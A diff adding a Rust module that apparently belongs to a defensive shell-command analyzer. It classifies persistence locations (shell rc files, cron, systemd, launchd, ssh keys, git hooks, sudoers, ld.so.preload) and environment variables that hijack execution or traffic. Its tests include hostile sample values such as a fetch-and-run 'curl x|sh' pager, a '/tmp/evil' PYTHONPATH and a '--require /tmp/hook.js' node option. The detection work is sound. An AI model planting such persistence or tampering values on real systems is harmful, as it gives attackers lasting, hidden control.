@@ -1,0 +1,443 @@
+//! Persistence locations (files whose content runs later without anyone asking again) and the
+//! environment variables that change what runs or where traffic goes.
+//!
+//! Sources for the locations: bash(1) "INVOCATION", zsh(1) "STARTUP/SHUTDOWN FILES", fish(1),
+//! crontab(5), systemd.unit(5) "UNIT FILE LOAD PATH", launchd.plist(5), githooks(5), husky docs,
+//! sshd(8) "AUTHORIZED_KEYS FILE FORMAT" and "SSHRC", ld.so(8) (`/etc/ld.so.preload`),
+//! sudoers(5) (`/etc/sudoers`, `/etc/sudoers.d`), XDG Autostart Specification.
+
+use crate::analyzer::Analyzer;
+use crate::facts::{Scope, ShellContext};
+use crate::model::Val;
+use crate::paths;
+
+/// Shell start-up files, relative to a home directory.
+const HOME_RC: &[&str] = &[
+    ".bashrc",
+    ".bash_profile",
+    ".bash_login",
+    ".bash_logout",
+    ".profile",
+    ".zshrc",
+    ".zshenv",
+    ".zprofile",
+    ".zlogin",
+    ".zlogout",
+    ".kshrc",
+    ".mkshrc",
+    ".cshrc",
+    ".tcshrc",
+    ".login",
+    ".xprofile",
+    ".xinitrc",
+    ".xsession",
+    ".pam_environment",
+    ".config/fish/config.fish",
+    ".config/environment.d",
+];
+
+/// System-wide shell start-up files and directories.
+const SYSTEM_RC: &[&str] = &[
+    "/etc/profile",
+    "/etc/profile.d",
+    "/etc/bash.bashrc",
+    "/etc/bashrc",
+    "/etc/zshrc",
+    "/etc/zsh",
+    "/etc/zprofile",
+    "/etc/zshenv",
+    "/etc/environment",
+    "/etc/fish/config.fish",
+    "/etc/fish/conf.d",
+];
+
+/// The homes a path may be in: the context's home, `/root`, or `/home/<user>`. Returns the
+/// path relative to that home.
+fn home_relative<'p>(path: &'p str, ctx: &ShellContext) -> Option<&'p str> {
+    let home = paths::normalize(&ctx.home);
+    if ctx.home.starts_with('/') && home != "/" && paths::is_under(path, &home) {
+        return path.get(home.len()..).map(|r| r.trim_start_matches('/'));
+    }
+    if let Some(r) = path.strip_prefix("/root/") {
+        return Some(r);
+    }
+    if let Some(r) = path.strip_prefix("/home/") {
+        return r.split_once('/').map(|(_, rest)| rest);
+    }
+    None
+}
+
+fn under_any(path: &str, bases: &[&str]) -> bool {
+    bases.iter().any(|b| paths::is_under(path, b))
+}
+
+/// Classifies a path that is written or created: `(kind, is_privilege)`.
+pub(crate) fn classify(path: &str, ctx: &ShellContext) -> Option<(&'static str, bool)> {
+    if !path.starts_with('/') {
+        return None;
+    }
+    if under_any(path, &["/etc/sudoers", "/etc/sudoers.d"]) || path == "/etc/doas.conf" {
+        return Some(("sudoers", true));
+    }
+    if let Some(rel) = home_relative(path, ctx) {
+        if HOME_RC.iter().any(|f| paths::is_under(rel, f))
+            || rel.starts_with(".config/fish/conf.d/")
+        {
+            return Some(("shell_rc", false));
+        }
+        if rel == ".ssh/authorized_keys" || rel == ".ssh/authorized_keys2" {
+            return Some(("ssh_authorized_keys", false));
+        }
+        if rel == ".ssh/rc" {
+            return Some(("ssh_rc", false));
+        }
+        if rel == ".ssh/config" || rel.starts_with(".ssh/config.d/") {
+            return Some(("ssh_config", false));
+        }
+        if rel.starts_with(".config/systemd/user/") || rel.starts_with(".local/share/systemd/user/")
+        {
+            return Some(("systemd", false));
+        }
+        if rel.starts_with("Library/LaunchAgents/") {
+            return Some(("launchd", false));
+        }
+        if rel.starts_with(".config/autostart/") {
+            return Some(("autostart", false));
+        }
+    }
+    if under_any(path, SYSTEM_RC) {
+        return Some(("shell_rc", false));
+    }
+    if under_any(
+        path,
+        &[
+            "/etc/crontab",
+            "/etc/cron.d",
+            "/etc/cron.hourly",
+            "/etc/cron.daily",
+            "/etc/cron.weekly",
+            "/etc/cron.monthly",
+            "/var/spool/cron",
+            "/etc/anacrontab",
+        ],
+    ) {
+        return Some(("cron_file", false));
+    }
+    if under_any(
+        path,
+        &[
+            "/etc/systemd/system",
+            "/etc/systemd/user",
+            "/lib/systemd/system",
+            "/usr/lib/systemd/system",
+            "/usr/lib/systemd/user",
+            "/run/systemd/system",
+        ],
+    ) {
+        return Some(("systemd", false));
+    }
+    if under_any(path, &["/Library/LaunchAgents", "/Library/LaunchDaemons"]) {
+        return Some(("launchd", false));
+    }
+    if under_any(
+        path,
+        &["/etc/init.d", "/etc/rc.local", "/etc/rc.d", "/etc/init"],
+    ) {
+        return Some(("init", false));
+    }
+    if paths::is_under(path, "/etc/xdg/autostart") {
+        return Some(("autostart", false));
+    }
+    if path == "/etc/ld.so.preload" {
+        return Some(("ld_preload", false));
+    }
+    if path == "/etc/ssh/sshrc" {
+        return Some(("ssh_rc", false));
+    }
+    // Git hooks: `.git/hooks/NAME` (not the shipped `*.sample` files) and husky's hook dir.
+    if let Some(i) = path.find("/.git/hooks/") {
+        let name = path.get(i + 12..).unwrap_or("");
+        if !name.is_empty() && !name.ends_with(".sample") {
+            return Some(("git_hooks", false));
+        }
+    }
+    if let Some(i) = path.find("/.husky/") {
+        let name = path.get(i + 8..).unwrap_or("");
+        if !name.is_empty() && !name.starts_with('_') && !name.contains('/') {
+            return Some(("git_hooks", false));
+        }
+    }
+    None
+}
+
+/// Records the persistence (or sudoers privilege) implied by writing `path`.
+pub(crate) fn for_path(a: &mut Analyzer, path: &str, evidence: &str) {
+    match classify(path, a.ctx) {
+        Some((kind, true)) => a.privilege(kind, "write", evidence),
+        Some((kind, false)) => a.persistence(kind, path, evidence),
+        None => {}
+    }
+}
+
+/// Environment variables whose value can change what code runs, what it loads, or where its
+/// traffic goes (the list of [`crate::EnvTamperFact`]). Only the name is checked here;
+/// [`is_tamper`] also looks at the value.
+pub(crate) fn is_tamper_var(name: &str) -> bool {
+    let up = name.to_ascii_uppercase();
+    let exact = [
+        "PATH",
+        "LD_PRELOAD",
+        "LD_LIBRARY_PATH",
+        "LD_AUDIT",
+        "NODE_OPTIONS",
+        "NODE_PATH",
+        "PYTHONPATH",
+        "PYTHONSTARTUP",
+        "PYTHONHOME",
+        "PYTHONINSPECT",
+        "PERL5LIB",
+        "PERL5OPT",
+        "PERLLIB",
+        "RUBYLIB",
+        "RUBYOPT",
+        "BASH_ENV",
+        "ENV",
+        "ZDOTDIR",
+        "PROMPT_COMMAND",
+        "HTTP_PROXY",
+        "HTTPS_PROXY",
+        "ALL_PROXY",
+        "FTP_PROXY",
+        "GIT_SSH",
+        "GIT_SSH_COMMAND",
+        "GIT_EXEC_PATH",
+        "GIT_ASKPASS",
+        "SSH_ASKPASS",
+        "GIT_PAGER",
+        "GIT_EDITOR",
+        "GIT_TEMPLATE_DIR",
+        "GIT_PROXY_COMMAND",
+        "GIT_EXTERNAL_DIFF",
+        "PAGER",
+        "EDITOR",
+        "VISUAL",
+        "NPM_CONFIG_REGISTRY",
+        "YARN_REGISTRY",
+        "PIP_INDEX_URL",
+        "PIP_EXTRA_INDEX_URL",
+        "UV_INDEX_URL",
+        "UV_EXTRA_INDEX_URL",
+        "UV_DEFAULT_INDEX",
+        "UV_INDEX",
+        "RUSTC_WRAPPER",
+        "RUSTC",
+        "SSL_CERT_FILE",
+        "SSL_CERT_DIR",
+        "REQUESTS_CA_BUNDLE",
+        "CURL_CA_BUNDLE",
+        "NODE_TLS_REJECT_UNAUTHORIZED",
+        "NODE_EXTRA_CA_CERTS",
+        "GIT_SSL_NO_VERIFY",
+        "PYTHONHTTPSVERIFY",
+        "HOME",
+        "SHELL",
+    ];
+    if exact.contains(&up.as_str()) {
+        return true;
+    }
+    up.starts_with("DYLD_")
+        || up.starts_with("GIT_CONFIG")
+        || up.starts_with("CARGO_REGISTRIES_")
+        || up.ends_with("_BASE_URL")
+        || up.ends_with("_API_BASE")
+        || up.ends_with("_ENDPOINT")
+}
+
+/// Where one directory of a path-list variable lies.
+fn dir_scope(dir: &str, ctx: &ShellContext) -> Scope {
+    if dir.is_empty() || !dir.starts_with('/') {
+        // Relative entries (and the empty entry, which means the working directory).
+        return Scope::Project;
+    }
+    paths::scope(&paths::normalize(dir), false, ctx)
+}
+
+/// The value is a plain program with plain options (`cat`, `less -R`, `code --wait`,
+/// `/usr/bin/vim`, `sccache`): no shell syntax, no program in a temporary directory or given by
+/// a relative path.
+fn simple_program(v: &str, ctx: &ShellContext) -> bool {
+    if v.is_empty() {
+        return true;
+    }
+    if v.contains([';', '|', '&', '$', '`', '(', ')', '<', '>', '\n']) {
+        return false;
+    }
+    let first = v.split_whitespace().next().unwrap_or("");
+    if first.contains('/') {
+        return first.starts_with('/')
+            && matches!(
+                paths::scope(&paths::normalize(first), false, ctx),
+                Scope::System
+            );
+    }
+    true
+}
+
+/// A self-reference to the variable's previous value (`$PATH`, `${PATH}`, `${PATH:+…}`).
+fn is_self_ref(entry: &str, name: &str) -> bool {
+    let e = entry.trim_matches('"');
+    e == format!("${name}") || (e.starts_with(&format!("${{{name}")) && e.ends_with('}'))
+}
+
+/// True when assigning `val` to `name` should be reported as an [`crate::EnvTamperFact`].
+///
+/// Rules, by family (everyday settings are left out, see each arm):
+/// - `PATH`: only directories put *before* the old `$PATH` (or replacing it) that are relative,
+///   in the project, in a temporary directory, or not known statically: they shadow system
+///   programs. Appending (`PATH=$PATH:./bin`) and prepending the user's own tool directories
+///   (`$HOME/.cargo/bin`) or system directories are not reported.
+/// - library search paths (`PYTHONPATH`, `NODE_PATH`, `PERL5LIB`, `RUBYLIB`,
+///   `LD_LIBRARY_PATH`): only entries in temporary directories or not known statically.
+/// - program-valued variables (`PAGER`, `EDITOR`, `VISUAL`, `GIT_PAGER`, `GIT_EDITOR`,
+///   `RUSTC_WRAPPER`, `RUSTC`, `SHELL`, `GIT_SSH_COMMAND`): only when the value is more than a
+///   plain program with options (shell syntax, a relative or temporary program, or ssh's
+///   `ProxyCommand`/`LocalCommand`).
+/// - `NODE_OPTIONS`: only code-loading or debugger options (`--require`, `-r`, `--import`,
+///   `--loader`, `--experimental-loader`, `--inspect*`). `NODE_OPTIONS=--max-old-space-size=…`
+///   is not reported.
+/// - TLS switches (`NODE_TLS_REJECT_UNAUTHORIZED`, `PYTHONHTTPSVERIFY`, `GIT_SSL_NO_VERIFY`):
+///   only values that turn verification off.
+/// - `GIT_CONFIG_NOSYSTEM` and `GIT_CONFIG_GLOBAL=/dev/null` isolate git from config, reported
+///   only when set to a real file; everything else in [`is_tamper_var`] is always reported.
+pub(crate) fn is_tamper(name: &str, val: &Val, ctx: &ShellContext) -> bool {
+    if !is_tamper_var(name) {
+        return false;
+    }
+    let up = name.to_ascii_uppercase();
+    let v = val.text.as_str();
+    match up.as_str() {
+        "PATH" => {
+            let entries: Vec<&str> = v.split(':').collect();
+            let self_idx = entries.iter().position(|e| is_self_ref(e, "PATH"));
+            let front = match self_idx {
+                Some(i) => entries.get(..i).unwrap_or(&[]),
+                None => &entries[..],
+            };
+            front.iter().any(|e| {
+                let e = e.trim_matches('"');
+                if e.contains('$') || e.contains('`') || e.contains('<') {
+                    // A dynamic part: `$HOME/…` was expanded already, so this is unknown.
+                    return true;
+                }
+                matches!(
+                    dir_scope(e, ctx),
+                    Scope::Project | Scope::Temp | Scope::Unknown | Scope::Device
+                )
+            })
+        }
+        "PYTHONPATH" | "NODE_PATH" | "PERL5LIB" | "PERLLIB" | "RUBYLIB" | "LD_LIBRARY_PATH" => v
+            .split(':')
+            .filter(|e| !e.is_empty() && !is_self_ref(e, &up))
+            .any(|e| {
+                e.contains('$')
+                    || e.contains('`')
+                    || matches!(
+                        dir_scope(e, ctx),
+                        Scope::Temp | Scope::Unknown | Scope::Device
+                    )
+            }),
+        "PAGER" | "EDITOR" | "VISUAL" | "GIT_PAGER" | "GIT_EDITOR" | "RUSTC_WRAPPER" | "RUSTC"
+        | "SHELL" => !simple_program(v, ctx),
+        "GIT_SSH_COMMAND" => {
+            let l = v.to_ascii_lowercase();
+            !simple_program(v, ctx) || l.contains("proxycommand") || l.contains("localcommand")
+        }
+        "NODE_OPTIONS" => v.split_whitespace().any(|o| {
+            let o = o.split('=').next().unwrap_or(o);
+            matches!(
+                o,
+                "-r" | "--require" | "--import" | "--loader" | "--experimental-loader"
+            ) || o.starts_with("--inspect")
+        }),
+        "NODE_TLS_REJECT_UNAUTHORIZED" | "PYTHONHTTPSVERIFY" => v.trim() == "0",
+        "GIT_SSL_NO_VERIFY" => !matches!(v.trim(), "" | "0" | "false"),
+        "GIT_CONFIG_NOSYSTEM" => false,
+        "GIT_CONFIG_GLOBAL" | "GIT_CONFIG_SYSTEM" => v != "/dev/null",
+        _ => true,
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn ctx() -> ShellContext {
+        ShellContext {
+            cwd: "/home/dev/project".into(),
+            home: "/home/dev".into(),
+            project_dir: Some("/home/dev/project".into()),
+        }
+    }
+
+    fn val(s: &str) -> Val {
+        let mut v = Val::known(s);
+        v.dynamic = s.contains('$');
+        v
+    }
+
+    #[test]
+    fn locations() {
+        let c = ctx();
+        assert_eq!(classify("/home/dev/.bashrc", &c), Some(("shell_rc", false)));
+        assert_eq!(classify("/home/dev/project/.bashrc", &c), None);
+        assert_eq!(
+            classify("/home/dev/project/.git/hooks/pre-commit", &c),
+            Some(("git_hooks", false))
+        );
+        assert_eq!(
+            classify("/home/dev/project/.git/hooks/pre-commit.sample", &c),
+            None
+        );
+        assert_eq!(classify("/etc/sudoers.d/x", &c), Some(("sudoers", true)));
+        assert_eq!(classify("/etc/cron.d/job", &c), Some(("cron_file", false)));
+        assert_eq!(
+            classify("/home/dev/.ssh/authorized_keys", &c),
+            Some(("ssh_authorized_keys", false))
+        );
+        assert_eq!(classify("/home/dev/notes.txt", &c), None);
+    }
+
+    #[test]
+    fn path_rules() {
+        let c = ctx();
+        assert!(!is_tamper("PATH", &val("$PATH:./bin"), &c));
+        assert!(!is_tamper("PATH", &val("/home/dev/.cargo/bin:$PATH"), &c));
+        assert!(is_tamper("PATH", &val("/tmp/x:$PATH"), &c));
+        assert!(is_tamper("PATH", &val(".:$PATH"), &c));
+        assert!(is_tamper("PATH", &val("./bin:${PATH}"), &c));
+        assert!(!is_tamper("PATH", &val("/usr/bin:/bin"), &c));
+    }
+
+    #[test]
+    fn value_rules() {
+        let c = ctx();
+        assert!(!is_tamper("PAGER", &val("cat"), &c));
+        assert!(is_tamper("PAGER", &val("sh -c 'curl x|sh'; cat"), &c));
+        assert!(!is_tamper(
+            "NODE_OPTIONS",
+            &val("--max-old-space-size=4096"),
+            &c
+        ));
+        assert!(is_tamper(
+            "NODE_OPTIONS",
+            &val("--require /tmp/hook.js"),
+            &c
+        ));
+        assert!(!is_tamper("PYTHONPATH", &val("src"), &c));
+        assert!(is_tamper("PYTHONPATH", &val("/tmp/evil"), &c));
+        assert!(is_tamper("LD_PRELOAD", &val("./x.so"), &c));
+        assert!(is_tamper("ANTHROPIC_BASE_URL", &val("http://x"), &c));
+        assert!(!is_tamper("IFS", &val(","), &c));
+        assert!(!is_tamper("NODE_TLS_REJECT_UNAUTHORIZED", &val("1"), &c));
+    }
+}
